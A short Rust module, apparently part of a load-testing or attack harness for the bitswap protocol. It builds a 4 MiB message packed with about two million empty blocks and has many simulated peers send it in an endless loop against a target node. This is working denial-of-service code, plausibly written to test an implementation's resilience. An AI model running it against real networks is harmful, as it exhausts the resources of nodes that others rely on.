//! Messages that are small for what they hold: two million empty blocks in 4 MiB.

use crate::script::write_message;
use crate::{ATTACKING, Crowd};

/// An empty block takes two bytes in the oldest version of bitswap.
const BLOCKS: usize = 2 << 20;

/// Send such messages, one after the other.
pub async fn run(crowd: Crowd) {
    let attack = |peer: std::sync::Arc<crate::Script>| async move {
        let message = [0x12, 0].repeat(BLOCKS);
        let mut stream = peer.open().await;
        println!("{ATTACKING}");
        while write_message(&mut stream, &message).await.is_ok() {}
    };
    crowd.attack(attack).await;
}
